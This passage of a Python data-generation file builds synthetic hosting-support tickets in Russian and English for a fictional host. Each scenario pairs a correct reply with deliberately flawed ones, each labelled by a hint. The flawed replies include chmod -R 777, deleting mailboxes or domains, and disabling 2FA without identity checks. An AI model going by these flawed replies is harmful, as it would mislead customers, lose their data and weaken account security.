                  ["Great, I'll close this ticket then. Have a nice day!"],
                  ["Thanks for confirming. Have a good one!"]],
        "nudge": [["Any update on this?"], ["Hello? Still waiting for a reply, the issue is still there."],
                  ["It's been half a day. Is anyone looking at this?"]],
        "fix_prefix": ["Sorry for the brief reply earlier — here are the details.",
                       "Let me expand on my previous answer."],
        "mis_prefix": ["Sorry, I misread your question.", "Apologies, I misunderstood the issue."],
        "bad_note": [["Passing to L2."], ["L2 pls check, customer says it's broken."]],
        "consult_bad": [["L2, can someone take a look at this one?"], ["Need help here."]],
        "chat_hello": ["Hi! My name is {efirst}, let me check that for you.",
                       "Hello {cfirst}! I'm {efirst} from DemoHost support, one moment please.",
                       "Hi there, this is {efirst}. Looking into it now."],
        "chat_hello_curt": ["Checking.", "Wait."],
        "chat_where": ["Are you still there?", "Hello??", "Anyone there?"],
        "chat_close_q": ["Is there anything else I can help you with?", "Anything else I can do for you today?"],
        "chat_close_a": ["No, that's all, thanks!", "Nope, all good. Thank you!", "That's it, thanks a lot"],
        "chat_bye": ["Have a great day!", "You're welcome, take care!", "Thanks for chatting with us, bye!"],
        "chat_end_noclose": ["ok", "got it", "k thx"],
        "call_agent": "Agent", "call_cust": "Caller",
        "call_head": "Incoming call from {phone}, duration {dur}. Transcript:",
        "call_hello": "DemoHost technical support, this is {efirst}, how can I help?",
        "call_hello_bad": "Yes?",
        "ident_q": "Could you give me your contract number and your security word, please?",
        "ident_a": "It's {acc}, and the word is… (gives it)",
        "ident_ok": "Thank you, I can see your account.",
        "ident_q_part": "Contract number?",
        "ident_a_part": "{acc}.",
        "ident_ok_part": "OK, got it.",
        "summary_head": "Call summary",
        "dur": "{m} min {s} s",
    },
}

# ---------------------------------------------------------------------------------------
# Scenarios.  One dict per scenario; the builders below turn it into a conversation and
# bend it according to the ticket's flags (thin first answer, slow reply, typos, ...).
# Flags a scenario can take are those whose text it provides.
# ---------------------------------------------------------------------------------------

SCENARIOS = []


def S(**kw):
    kw.setdefault("na", set())
    kw.setdefault("hints", {})
    kw.setdefault("priority", "normal")
    kw.setdefault("ztype", "incident")
    SCENARIOS.append(kw)
    return kw


# ----- first line, Russian -------------------------------------------------------------

S(key="fl-ns", team="first-line", lang="ru", tags=["dns", "domain"], kind="email",
  subj=["Сайт не открывается после смены DNS", "Не работает сайт {dom} после переноса",
        "Сменил NS — сайт открывается через раз", "{dom}: у одних открывается старый сайт, у других ошибка"],
  open=[["Вчера вечером поменял у регистратора NS-серверы домена {dom} на ваши (ns1.demohost.example и ns2.demohost.example). Прошло больше 12 часов, а сайт всё ещё открывается со старого хостинга, а у коллег вообще выдаёт ошибку. Что-то не так с настройками?"],
        ["Перенёс домен {dom} к вам на хостинг, в панели домен добавлен, NS у регистратора прописал.",
         "С мобильного интернета сайт открывается новый, а из офиса — старая версия. Почему так и сколько ждать?"]],
  reply=["Проверили домен {dom}: NS-серверы у регистратора указаны верно — ns1.demohost.example и ns2.demohost.example, зона на наших серверах отвечает корректно, A-запись указывает на {ip}.",
         "То, что вы видите, — обычное обновление DNS: после смены NS-серверов провайдеры держат старые записи в кэше до 24–72 часов, поэтому у разных людей сайт сейчас открывается по-разному. С нашей стороны всё настроено правильно.",
         "Проверить, какие NS уже видны у разных провайдеров, можно по [[https://docs.demohost.example/dns/propagation|инструкции в базе знаний]]."],
  wa=["Чтобы уже сейчас работать с сайтом на нашем хостинге, добавьте в файл hosts на своём компьютере строку:",
      ("pre", "{ip} {dom} www.{dom}"),
      "Файл находится в C:\\Windows\\System32\\drivers\\etc\\hosts (Windows) или /etc/hosts (macOS, Linux). После обновления DNS строку нужно удалить."],
  thin=["Обновление DNS занимает до 72 часов, ожидайте."],
  ask=["То есть ничего сделать нельзя? У нас интернет-магазин, часть заказов уходит на старый сервер. Вы хотя бы проверили, что у вас всё настроено правильно?"],
  misread=["Чтобы привязать домен к хостингу, добавьте его в панели в разделе «Сайты» → «Добавить сайт», а у регистратора укажите наши NS: ns1.demohost.example и ns2.demohost.example."],
  ask_mis=["Это я уже сделал, я же написал. Вопрос в том, почему сайт до сих пор открывается по-разному."],
  wrong=["Похоже, зона домена создалась с ошибкой. Удалите домен {dom} из панели и добавьте заново — зона пересоздастся, и сайт заработает."],
  wrong_c=["Удалил домен и добавил заново, как вы сказали. Теперь пропали все почтовые ящики на домене! Что происходит?!"],
  wrong_fix=["Приношу извинения — моя рекомендация была ошибочной: при удалении домена из панели удаляются и его почтовые ящики. Я восстановил ящики и письма из ночной резервной копии, они снова доступны, пароли прежние.",
             "По исходному вопросу:"],
  note=["dig NS {dom} @a.dns.ripn.net — наши NS. dig A {dom} @ns1.demohost.example → {ip}. У клиента кэш провайдера, с нашей стороны всё ок."],
  consult=(["Вторая линия, проверьте, пожалуйста, зону {dom} на обоих NS — клиент жалуется, что сайт открывается по-разному. С ns1 ответ вижу, ns2 не успел проверить."],
           ["Проверил: ns1 и ns2 отдают одинаковую зону, serial свежий. Это кэш у провайдеров, ждать обновления."]),
  tail=[("c", [["Подождали — теперь у всех открывается новый сайт. Спасибо за разъяснение!"],
               ["Сегодня утром всё открывается у всех. Спасибо!"]]),
        ("e?", None)],
  hints={"thin": "Первый ответ — «ожидайте 72 часа»: без проверки NS и зоны и без обходного пути через hosts",
         "misread": "Сначала объяснил, как добавить домен, хотя клиент написал, что уже это сделал",
         "wrong": "Посоветовал удалить домен из панели — клиент потерял почтовые ящики, пришлось восстанавливать из копии",
         "no_workaround": "Не предложил прописать hosts, чтобы клиент работал с сайтом до обновления DNS",
         "good": "Проверил NS и зону, объяснил кэш и сразу дал обход через hosts"})

S(key="fl-mx", team="first-line", lang="ru", tags=["mail", "dns"], kind="email",
  subj=["Не приходят письма на почту домена", "Входящая почта не доходит", "Отбойник 550 при отправке нам писем",
        "Почта на {dom} не работает после переноса"],
  open=[["С понедельника на ящики @{dom} не приходят письма. Отправка работает, а входящие — тишина. Несколько клиентов пишут, что получают ответ «Undelivered Mail Returned to Sender». Домен недавно перенесли к вам."],
        ["Письма на info@{dom} не доходят, отправители получают отбойник с ошибкой 550. Ящик в панели создан, пароль подходит, в веб-почту захожу. Помогите срочно, теряем заявки."]],
  attach_c=[("otboynik-550.png", "image/png", (90_000, 420_000))],
  reply=["Проверили DNS-записи домена {dom}: MX-запись до сих пор указывает на сервер прежнего почтового провайдера (mx.oldmail.example), поэтому входящие письма уходят туда, а не к нам.",
         "Чтобы почта приходила в ящики на нашем хостинге, в панели управления откройте «Домены» → {dom} → «DNS-записи» и замените MX-запись на наши:",
         ("pre", "{dom}.  MX  10  mx1.demohost.example.\n{dom}.  MX  20  mx2.demohost.example."),
         "Изменения вступят в силу в течение 1–2 часов (TTL старой записи — 3600 секунд)."],
  wa=["Письма, которые уже ушли на старый сервер, можно забрать сборщиком почты: в веб-почте «Настройки» → «Сбор почты», укажите адрес и пароль старого ящика."],
  thin=["Проверьте MX-записи домена."],
  ask=["А какие они должны быть? Я не специалист, в панели вижу кучу записей и боюсь что-то сломать."],
  misread=["Настроить почтовый клиент можно по инструкции: IMAP-сервер mail.demohost.example, порт 993, SSL; SMTP — порт 465. Подробнее: [[https://docs.demohost.example/mail/clients|инструкция по настройке]]."],
  ask_mis=["Почтовый клиент тут ни при чём — письма не доходят даже в веб-почту. Отправители получают ошибку."],
  wrong=["Похоже, ящик переполнен. Удалите ящик info@{dom} и создайте заново — это сбросит квоту."],
  wrong_c=["Удалил ящик и создал заново, как вы сказали. Все старые письма пропали, а новые так и не приходят!"],
  wrong_fix=["Приношу извинения: рекомендация была ошибочной, ящик не был переполнен. Удалённые письма я восстановил из вчерашней резервной копии — они снова в папке «Входящие».",
             "Настоящая причина в другом:"],
  unv_fail=["Поменял записи, как вы написали, прошло уже 4 часа — письма всё равно не приходят, отбойник тот же."],
  unv_fix=["Проверил зону ещё раз: кроме изменённой записи там осталась старая MX с приоритетом 5 (mx.oldmail.example), и она перехватывает почту. Удалил её — теперь в зоне только наши MX.",
           "Отправил тестовое письмо на info@{dom} с внешнего ящика — доставлено за несколько секунд. Извините, что не проверил это сразу."],
  note=["dig MX {dom} → mx.oldmail.example. В логах exim на mx1 писем для {dom} за сутки нет — до нас не доходят."],
  consult=(["Вторая линия, посмотрите, пожалуйста, логи входящей почты для {dom} за сегодня — доходят ли письма до нас вообще? Клиент не получает входящие."],
           ["Проверил exim на mx1/mx2: для {dom} ни одного входящего за сутки, отбойники генерирует mx.oldmail.example. Дело в MX-записи."]),
  tail=[("c", [["Поменял MX, письма пошли. Спасибо за подробную инструкцию!"],
               ["Да, всё приходит, тестовое письмо получили. Спасибо!"]]),
        ("e?", None)],
  hints={"thin": "Первый ответ — «проверьте MX» без значений записей и пути в панели",
         "misread": "Ответил про настройку почтового клиента, хотя проблема в доставке входящих",
         "wrong": "Посоветовал удалить ящик — клиент потерял письма, а причина была в MX-записи",
         "unverified": "Не проверил зону целиком: осталась старая MX-запись, клиент написал повторно",
         "no_workaround": "Не предложил забрать уже ушедшие письма сборщиком почты",
         "good": "Нашёл старую MX, дал точные записи и путь в панели"})

S(key="fl-ssl", team="first-line", lang="ru", tags=["ssl", "dns"], kind="email",
  consult=(["Вторая линия, подскажите: выпуск Let's Encrypt для {dom} падает с ошибкой проверки. Можете посмотреть лог выпуска на сервере? В панели деталей нет."],
           ["Посмотрел лог: Invalid response для www.{dom} — www смотрит на {ip2}, это старый хостинг. Для основного имени проверка проходит."]),
  subj=["Не выпускается сертификат Let's Encrypt", "Ошибка выпуска SSL для {dom}",
        "Браузер пишет «Подключение не защищено»"],
  open=[["Пытаюсь подключить бесплатный SSL для {dom} в панели, через пару минут статус меняется на «Ошибка выпуска». Пробовал три раза. Что не так?"],
        ["На {dom} браузер пишет «Ваше подключение не защищено». В панели нажал «Выпустить сертификат Let's Encrypt», но он висит в статусе ошибки."]],
  attach_c=[("ssl-oshibka.png", "image/png", (120_000, 380_000))],
  reply=["Посмотрели причину ошибки: при проверке домена Let's Encrypt обращается к сайту по HTTP, но A-запись для www.{dom} указывает не на наш сервер, а на {ip2} — видимо, осталась от прежнего хостинга. Проверка для www не проходит, и сертификат на оба имени не выпускается.",
         "Что нужно сделать:",
         ("ul", ["в панели «Домены» → «DNS-записи» измените A-запись www.{dom} на {ip} (или удалите её и создайте CNAME www → {dom});",
                 "подождите около часа, пока обновится DNS;",
                 "в разделе «SSL-сертификаты» нажмите «Выпустить повторно»."]),
         "После выпуска сертификат будет продлеваться автоматически."],
  wa=["Если сертификат нужен срочно, можно уже сейчас выпустить его только на {dom} без www — снимите галочку «Включить www» при выпуске, а после исправления записи перевыпустите на оба имени."],
  thin=["Проверьте DNS-записи и попробуйте ещё раз позже."],
  ask=["Какие именно записи проверить? Я ничего не менял, домен делегирован на ваши NS."],
  wrong=["Бесплатные сертификаты Let's Encrypt на вашем тарифе не поддерживаются. Можно заказать платный сертификат — от 1 490 ₽ в год."],
  wrong_c=["Странно, на сайте у вас написано, что бесплатный SSL есть на всех тарифах. Точно нужно покупать?"],
  wrong_fix=["Вы правы, прошу прощения за неверную информацию: бесплатный Let's Encrypt доступен на всех тарифах, покупать ничего не нужно."],
  note=["Лог выпуска: Invalid response from http://www.{dom}/.well-known/acme-challenge/… — www смотрит на {ip2}."],
  tail=[("c", [["Исправил запись, через час сертификат выпустился. Замок в браузере есть, спасибо!"],
               ["Всё получилось, спасибо за пошаговую инструкцию."]]),
        ("e?", None)],
  hints={"thin": "Ответ «проверьте DNS» без указания, какая запись мешает выпуску",
         "wrong": "Неверно сообщил, что Let's Encrypt недоступен на тарифе, и предложил купить платный сертификат",
         "no_workaround": "Не предложил выпустить сертификат без www, пока обновляется запись",
         "good": "Нашёл в логе выпуска, что www смотрит на старый IP, дал пошаговую инструкцию"})

S(key="fl-php", team="first-line", lang="ru", tags=["php", "panel"], kind="email",
  consult=(["Коллеги, у клиента {dom} белый экран после перевода на PHP 8.2, в error.log create_function в плагине. Подтвердите, что 7.4 в режиме совместимости на этом сервере ещё доступна?"],
           ["Да, на этом кластере 7.4 в режиме совместимости доступна до 1 декабря. Можно предлагать как временное решение."]),
  subj=["Белый экран после смены версии PHP", "Critical error на сайте {dom}",
        "Сайт не работает после обновления PHP"],
  open=[["После того как в панели переключили PHP с 7.4 на 8.2 (пришло письмо, что 7.4 больше не поддерживается), сайт {dom} показывает белый экран. Админка тоже не открывается."],
        ["Сайт {dom} на WordPress выдаёт «There has been a critical error on this website». Вчера всё работало. На прошлой неделе получали от вас письмо про смену версии PHP."]],
  reply=["Посмотрели журнал ошибок сайта (панель → «Логи» → error.log). Ошибка возникает в плагине, который не совместим с PHP 8.2:",
         ("pre", "PHP Fatal error:  Uncaught Error: Call to undefined function create_function()\n  in /home/{acc_l}/{dom}/wp-content/plugins/old-slider/slider.php:112"),
         "Функция create_function удалена в PHP 8, поэтому плагин падает и вместе с ним весь сайт. Варианты:",
         ("ul", ["обновить плагин old-slider до последней версии или заменить его аналогом;",
                 "отключить плагин: переименуйте папку wp-content/plugins/old-slider в old-slider.off через файловый менеджер — после этого сайт откроется, но без слайдера на главной."])],
  wa=["Если сайт нужен прямо сейчас, можно временно вернуть PHP 7.4: «Сайты» → {dom} → «Версия PHP». До 1 декабря она ещё доступна в режиме совместимости, но плагин всё равно придётся обновить."],
  thin=["Верните версию PHP обратно."],
  ask=["Вернул, сайт заработал. Но в письме написано, что 7.4 скоро отключат. Что нам делать дальше?"],
  wrong=["Проблема в правах на файлы. Зайдите по SSH и выполните chmod -R 777 на папку сайта — после этого ошибка пропадёт."],
  wrong_c=["Выполнил — ничего не изменилось. Коллега говорит, что 777 делать нельзя. Это правда?"],
  wrong_fix=["Коллега прав, прошу прощения: права 777 делают файлы доступными на запись всем и открывают сайт для взлома. Я вернул стандартные права (644 для файлов, 755 для каталогов).",
             "Настоящая причина ошибки другая:"],
  unv_fail=["Переименовал папку плагина — теперь другая ошибка, что-то про тему оформления."],
  unv_fix=["Посмотрел лог ещё раз: следующая ошибка в теме — в functions.php используется функция each(), её тоже удалили в PHP 8. Заменил её на foreach (копия файла — functions.php.bak).",
           "Открыл сайт и админку — всё работает, новых ошибок в логе нет. Извините, что сразу не проверил сайт целиком."],
  note=["error.log: create_function() в old-slider, PHP 8.2 включён плановой миграцией. Тема тоже старая, может всплыть ещё."],
  tail=[("c", [["Отключили слайдер, сайт работает. Подрядчик обновит тему на следующей неделе. Спасибо!"],
               ["Всё открывается, спасибо, что нашли причину."]]),
        ("e?", None)],
  hints={"thin": "Предложил только откатить PHP, не посмотрел лог и не объяснил, что делать дальше",
         "wrong": "Рекомендовал chmod -R 777 — небезопасно и не решает проблему",
         "unverified": "Не проверил сайт после отключения плагина — следом упала тема",
         "no_workaround": "Не предложил временно вернуть PHP 7.4, пока обновляют плагин",
         "good": "Нашёл причину в error.log и дал два варианта решения"})

S(key="fl-quota", team="first-line", lang="ru", tags=["hosting", "mail", "panel"], kind="email",
  consult=(["Вторая линия, можно выдать временную квоту +2 ГБ аккаунту {acc}? Клиент будет чистить бэкапы плагина, а почта уже не принимается."],
           ["Выдал +2 ГБ на 3 дня. Топ по du: wp-content/backups — 6.8G, mail — 1.9G."]),
  subj=["Нет места на диске, почта не принимается", "Не загружаются фото на сайт — нет места",
        "Закончилось место на хостинге"],
  open=[["Пришло уведомление, что диск на тарифе заполнен на 100%. Сайт работает, но почта перестала приниматься. Что занимает место? У нас небольшой сайт-визитка."],
        ["Не могу загрузить фото на сайт {dom} — пишет «нет места на диске». Тариф «Старт», 10 ГБ. Сайт маленький, откуда столько?"]],
  reply=["Посмотрели, что занимает место в аккаунте {acc}:",
         ("ul", ["около 6,8 ГБ — резервные копии, которые плагин сайта складывает в папку {dom}/wp-content/backups (архивы за полгода);",
                 "1,9 ГБ — почтовый ящик info@{dom};",
                 "0,6 ГБ — сам сайт и база данных."]),
         "Архивы в wp-content/backups можно удалить через «Файловый менеджер». Мы ежедневно делаем свои резервные копии и храним их 14 дней — их можно восстановить в разделе «Резервные копии». В настройках плагина советуем отключить локальные бэкапы или оставить хранение 1–2 копий."],
  wa=["Чтобы сайт и почта работали уже сейчас, мы временно увеличили квоту на 2 ГБ на 3 дня — бесплатно."],
  thin=["У вас закончилось место. Удалите лишние файлы или перейдите на тариф побольше."],
  ask=["Я понимаю, что закончилось. Что именно удалять? Я не знаю, что там лежит."],
  wrong=["Больше всего места занимает папка mail в корне аккаунта — там старые письма. Удалите её через файловый менеджер, место освободится."],
  wrong_c=["Удалил папку mail. Теперь в почте пусто и письма не приходят вообще!!!"],
  wrong_fix=["Приносим извинения, рекомендация была ошибочной: в папке mail хранятся все почтовые ящики целиком. Мы восстановили её из ночной резервной копии, ящики снова работают.",
             "Место на самом деле занимало другое:"],
  note=["du -sh: wp-content/backups 6.8G (UpdraftPlus), mail 1.9G. Выдал временно +2 ГБ на 3 дня."],
  tail=[("c", [["Удалили старые архивы, место освободилось, почта приходит. Спасибо!"],
               ["Спасибо, почистили. Локальные бэкапы в плагине отключили."]]),
        ("e?", None)],
  hints={"thin": "Ответ «удалите лишнее или смените тариф» без разбора, что занимает место",
         "wrong": "Посоветовал удалить папку mail — клиент потерял все ящики до восстановления из копии",
         "no_workaround": "Не выдал временную квоту, почта не принималась до очистки",
         "good": "Разобрал занятое место по папкам и сразу выдал временную квоту"})

S(key="fl-docs", team="first-line", lang="ru", tags=["billing"], kind="email", ztype="question",
  subj=["Закрывающие документы за квартал", "Нужны акты и акт сверки", "Где взять акты по договору {acc}?"],
  open=[["Бухгалтерия просит акты и счета-фактуры по договору {acc} за {prev_months}. В личном кабинете нашли только счета. Где взять акты? Также нужен акт сверки на {prev_month_end}."],
        ["Мы юрлицо, оплачиваем по счёту. Не пришли оригиналы закрывающих документов за {prev_months}, и нужен акт сверки. Как их получить?"]],
  reply=["Закрывающие документы по договору {acc} формируются автоматически в начале каждого месяца за прошедший. Найти их можно в личном кабинете: «Финансы» → «Документы» → вкладка «Акты и счета-фактуры». Акты за {prev_months} там уже есть, их можно скачать в PDF с электронной подписью.",
         "Акт сверки на {prev_month_end} мы сформировали и приложили к этому ответу.",
         "Оригиналы на бумаге отправляем Почтой России на юридический адрес из договора, доставка обычно 7–10 дней. Если у вас подключён ЭДО (Диадок или СБИС), можем отправлять документы туда — это быстрее."],
  attach_e=[("akt-sverki-{acc}.pdf", "application/pdf", (60_000, 140_000))],
  thin=["Документы есть в личном кабинете."],
  ask=["Где именно? Я смотрел в разделе «Счета», там только счета на оплату. И про акт сверки вы не ответили."],
  misread=["Счёт на оплату можно сформировать в разделе «Финансы» → «Пополнить баланс» → «Безналичный расчёт»."],
  ask_mis=["Счёт нам не нужен, он уже оплачен. Нужны акты за прошедший квартал и акт сверки."],
  wrong=["Акты за квартал формируются только по запросу и стоят 300 ₽ за комплект. Пополните баланс, и мы подготовим документы."],
  wrong_c=["Впервые слышу, что акты платные. В договоре такого нет."],
  wrong_fix=["Прошу прощения, я ошибся: закрывающие документы бесплатные."],
  na={"workaround"},
  tail=[("c", [["Нашёл, спасибо! Оригиналы ждём по почте."],
               ["Спасибо, акт сверки получили. Подключим ЭДО, так удобнее."]]),
        ("e?", None)],
  hints={"thin": "Ответ «документы есть в кабинете» без пути и без акта сверки",
         "misread": "Рассказал, как выставить счёт, а клиент спрашивал про акты",
         "wrong": "Сообщил, что закрывающие документы платные, — это неправда",
         "good": "Дал точный путь к актам и сразу приложил акт сверки"})

S(key="fl-restore", team="first-line", lang="ru", tags=["backup"], kind="email",
  consult=(["Вторая линия, у {acc} есть ночная копия за сегодня? В панели последней отображается вчерашняя."],
           ["Копия за сегодня есть (03:40), в панели появится после индексации через час. Восстанавливать можно."]),
  subj=["Откатить сайт на вчерашний день", "Удалены файлы на {dom} — нужно восстановить",
        "Восстановить сайт из резервной копии"],
  open=[["Сегодня подрядчик обновлял сайт {dom} и всё сломал — вёрстка поехала, часть страниц отдаёт 404. Можно откатить сайт на вчерашний день? Базу тоже."],
        ["Случайно удалил через файловый менеджер папку upload на сайте {dom}. Можно как-то вернуть? Удалил около часа назад."]],
  reply=["Резервные копии аккаунта делаются каждую ночь и хранятся 14 дней, копия за сегодняшнюю ночь есть. Восстановить сайт можно самостоятельно: в панели «Резервные копии» → выберите копию за нужную дату → отметьте «Файлы сайта {dom}» и, если нужно, базу данных → «Восстановить».",
         "Важно: отмечайте только сайт и базу — почту восстанавливать не нужно, иначе пропадут письма, пришедшие сегодня. Восстановление перезапишет текущие файлы сайта; если что-то из сегодняшних изменений нужно сохранить, сначала скачайте текущую версию (кнопка «Скачать архив» там же).",
         "Восстановление занимает 5–20 минут, по завершении придёт уведомление на почту."],
  wa=["Если не хотите трогать сайт целиком, копию можно восстановить в отдельную папку (опция «Восстановить в каталог») и перенести только нужные файлы."],
  thin=["Можно восстановить в разделе «Резервные копии»."],
  ask=["Нашёл раздел, но боюсь нажать не то. Там восстановится всё — и почта тоже? У нас там письма за сегодня."],
  wrong=["Восстановите весь аккаунт целиком на вчерашнюю дату — это самый надёжный вариант."],
  wrong_c=["Восстановил весь аккаунт — пропали сегодняшние письма во всех ящиках. Их можно вернуть?"],
  wrong_fix=["Прошу прощения, рекомендация была неточной: полное восстановление затрагивает и почту. Сегодняшние письма сохранились в автоматическом снимке перед восстановлением — я вернул их в ящики.",
             "На будущее — как восстанавливать только сайт:"],
  na={"verified"},
  tail=[("c", [["Восстановил только сайт и базу — всё вернулось. Спасибо!"],
               ["Всё на месте, спасибо большое!"]]),
        ("e?", None)],
  hints={"thin": "Ответ одной строкой, без шагов и без предупреждения, что восстановление почты сотрёт сегодняшние письма",
         "wrong": "Посоветовал восстановить аккаунт целиком — клиент потерял сегодняшнюю почту",
         "no_workaround": "Не предложил восстановить копию в отдельный каталог",
         "good": "Предупредил, что почту восстанавливать не нужно, дал пошаговую инструкцию"})

S(key="fl-2fa", team="first-line", lang="ru", tags=["panel", "security"], kind="email", ztype="question",
  subj=["Не могу войти в панель — потерян телефон", "Сбросить двухфакторную аутентификацию",
        "Нет доступа к личному кабинету {acc}"],
  open=[["Потерял телефон, на котором было приложение для двухфакторной аутентификации. Теперь не могу войти в панель. Логин {acc}."],
        ["Не могу зайти в личный кабинет: сменил телефон, а коды двухфакторной авторизации остались на старом. Резервные коды, конечно, никто не сохранил. Что делать?"]],
  reply=["Для отключения двухфакторной аутентификации нам нужно убедиться, что вы — владелец аккаунта {acc}. Пожалуйста, ответьте на это письмо с адреса, указанного в договоре, и приложите фото разворота паспорта с фотографией (для физлица) или письмо на бланке организации с подписью руководителя (для юрлица). Файл используем только для проверки и удаляем после неё.",
         "После проверки мы отключим 2FA, вы войдёте по паролю и сможете заново подключить приложение на новом телефоне."],
  wa=["Если нужно срочно оплатить услуги, это можно сделать без входа в кабинет — по ссылке [[https://my.demohost.example/pay|быстрая оплата]], достаточно номера договора."],
  thin=["Пришлите документы для отключения 2FA."],
  ask=["Какие документы? Куда присылать?"],
  wrong=["Отключили двухфакторную аутентификацию, можете входить по паролю."],
  wrong_tail=[("c", [["Спасибо, вошёл, подключил приложение заново."]])],
  na={"verified"},
  tail=[("c", [["Отправляю фото паспорта."], ["Прикладываю письмо на бланке, подписано директором."]],
         [("scan-{acc_l}.jpg", "image/jpeg", (350_000, 900_000))]),
        ("e", [["Спасибо, данные совпадают с договором. Двухфакторная аутентификация отключена — можно входить по паролю. Рекомендуем сразу подключить её заново и сохранить резервные коды."]]),
        ("c?", [["Вошёл, подключил заново. Спасибо!"]])],
  hints={"thin": "Попросил «документы», не уточнив, какие и как их прислать",
         "wrong": "Отключил 2FA без проверки личности владельца — нарушение регламента безопасности",
         "no_workaround": "Не подсказал, как оплатить услуги без входа в кабинет",
         "good": "Чётко описал процедуру проверки владельца"})

S(key="fl-malware", team="first-line", lang="ru", tags=["security", "hosting"], kind="email", priority="high",
  subj=["На сайте выскакивает реклама", "Сайт заражён вирусом?", "Браузер предупреждает, что {dom} опасен"],
  open=[["Сегодня на сайте {dom} при открытии выскакивает окно с рекламой казино, а Яндекс пишет, что сайт может угрожать безопасности. Мы ничего не меняли. Что делать?"],
        ["Антивирус в панели прислал письмо, что на аккаунте {acc} найдены вредоносные файлы. С сайтом вроде всё нормально, но клиенты жалуются на переадресацию на странные сайты с телефона."]],
  reply=["Антивирус хостинга обнаружил на аккаунте {acc} 14 заражённых файлов: вредоносный код внедрён в index.php и в файлы темы. По логам заражение произошло {date_before} через устаревший плагин формы обратной связи (уязвимость известна с весны).",
         "Что рекомендуем сделать:",
         ("ul", ["восстановить сайт из резервной копии за {date_before2} — в ней заражённых файлов нет (раздел «Резервные копии», только файлы сайта);",
                 "сразу после восстановления обновить CMS и все плагины, удалить неиспользуемые;",
                 "сменить пароли от панели, FTP, базы данных и административной части сайта;",
                 "после очистки запросить перепроверку в Яндекс.Вебмастере."]),
         "Список заражённых файлов прикладываем."],
  attach_e=[("malware-report-{acc_l}.txt", "text/plain", (3_000, 9_000))],
  wa=["Если восстановление из копии не подходит, можно запустить «Антивирус» → «Вылечить» — он удалит известные вставки, но уязвимость в плагине останется, поэтому его всё равно нужно обновить."],
  thin=["Запустите антивирус в панели."],
  ask=["Запустил — найдено 14 файлов. Дальше что? Их удалять? А сайт не сломается?"],
  consult=(["Вторая линия, проверьте, пожалуйста, не рассылается ли с аккаунта {acc} спам — сайт заражён, вставка в index.php."],
           ["Проверил: исходящей почты с аккаунта за сутки 12 писем, всё легитимное. Заражение только в файлах. Вход через contact-form-old, в access.log POST на его upload.php."]),
  tail=[("c", [["Восстановили из копии и всё обновили, реклама пропала. Спасибо за подробный план!"],
               ["Почистили, пароли сменили. Спасибо!"]]),
        ("e?", None)],
  hints={"thin": "Ответ «запустите антивирус» без плана действий и смены паролей",
         "no_workaround": "Не предложил лечение антивирусом как вариант без отката",
         "good": "Дал полный план: откат, обновление, смена паролей, перепроверка в Вебмастере"})

S(key="fl-renew", team="first-line", lang="ru", tags=["domain", "billing"], kind="email", priority="high",
  subj=["Домен не продлился, хотя оплачен", "Сайт не работает — домен истёк?",
        "{dom} в статусе «Истёк» после оплаты"],
  open=[["Домен {dom} перестал открываться, пишет, что срок регистрации истёк. Я же оплатил продление позавчера! Деньги списались, баланс смотрел."],
        ["Оплатили продление домена {dom}, а в кабинете он всё ещё в статусе «Истёк». Сайт и почта не работают. Что происходит?"]],
  reply=["Проверили: оплата 1 290 ₽ поступила на баланс договора {acc} {date_before}, но продление не запустилось автоматически — в настройках домена была отключена опция «Автопродление», а заказ на продление вручную не оформлялся. Деньги всё это время были на балансе.",
         "Мы оформили продление — домен {dom} продлён до {date_next}. Сайт и почта заработают в течение 1–3 часов, пока у провайдеров обновится DNS-кэш.",
         "Чтобы ситуация не повторилась, включите автопродление: «Домены» → {dom} → «Автопродление»."],
  thin=["Домен продлён."],
  ask=["А почему он вообще истёк, если деньги были на балансе? И когда заработает сайт?"],
  wrong=["Домен истёк более 30 дней назад и перешёл в статус освобождения, продлить его уже нельзя — придётся регистрировать заново, когда он освободится."],
  wrong_c=["Как это нельзя?! Он истёк три дня назад! Проверьте, пожалуйста, ещё раз."],
  wrong_fix=["Прошу прощения, я ошибся в дате: домен истёк 3 дня назад и находится в периоде преимущественного продления."],
  unv_fail=["Прошло 5 часов, сайт всё ещё показывает заглушку регистратора."],
  unv_fix=["Проверил через whois: после продления у домена остались NS-серверы заглушки регистратора. Вернул наши — ns1.demohost.example и ns2.demohost.example, проверил ответ серверов и открыл сайт — работает. Извините, что не проверил это сразу."],
  na={"workaround"},
  tail=[("c", [["Сайт открылся, автопродление включили. Спасибо!"], ["Всё заработало, спасибо."]]),
        ("e?", None)],
  hints={"thin": "Написал «домен продлён», не объяснив причину и сроки восстановления сайта",
         "wrong": "Сообщил, что домен нельзя продлить, хотя он был в периоде преимущественного продления",
         "unverified": "Не проверил NS после продления — сайт не открылся, клиент написал повторно",
         "good": "Объяснил причину (отключённое автопродление), продлил и подсказал, как избежать повтора"})

# ----- first line, English -------------------------------------------------------------

S(key="fl-ns-en", team="first-line", lang="en", tags=["dns", "domain"], kind="email",
  consult=(["L2, could you double-check the zone for {dom} on both NS? Customer sees mixed results."],
           ["Both ns1/ns2 serve the same zone, serial is current. It's resolver caching on their side."]),
  subj=["Website still showing old host after nameserver change", "{dom} not resolving to new hosting",
        "Changed nameservers yesterday, site still old"],
  open=[["I switched the nameservers for {dom} to ns1.demohost.example / ns2.demohost.example yesterday, but the site still loads from my old host for me, while my partner abroad already sees the new one. Did I miss a step?"],
        ["We moved {dom} to your hosting. The domain is added in the panel and the nameservers are updated at the registrar, but half of our team still gets the old website. How long will this take?"]],
  reply=["I've checked {dom}: the registry already lists our nameservers, and our DNS zone answers correctly with the A record pointing to {ip}. Everything is set up properly on our side.",
         "What you're seeing is DNS caching: resolvers keep the old records until their TTL expires, which can take up to 48 hours after a nameserver change. That's why different people see different versions right now."],
  wa=["To preview the site on our servers right away, add this line to your hosts file (C:\\Windows\\System32\\drivers\\etc\\hosts on Windows, /etc/hosts on macOS/Linux):",
      ("pre", "{ip} {dom} www.{dom}"),
      "Remember to remove it once propagation is complete. Flushing your local DNS cache (ipconfig /flushdns on Windows) may also help."],
  thin=["Please wait 24-48 hours for DNS propagation."],
  ask=["I understand propagation, but can you at least confirm everything is set up correctly on your side? We're launching tomorrow."],
  misread=["To add a domain to your hosting, go to Sites → Add site in the control panel and point the domain to ns1.demohost.example and ns2.demohost.example at your registrar."],
  ask_mis=["The domain is already added, as I wrote. The question is why it still loads from the old host."],
  wrong=["Your zone seems to be broken. Please delete the domain from the control panel and add it again, that will recreate the zone."],
  wrong_c=["I deleted and re-added it — now all the email accounts on this domain are gone!"],
  wrong_fix=["I'm very sorry — my advice was wrong: removing a domain also removes its mailboxes. I've restored the mailboxes and messages from last night's backup, passwords are unchanged.",
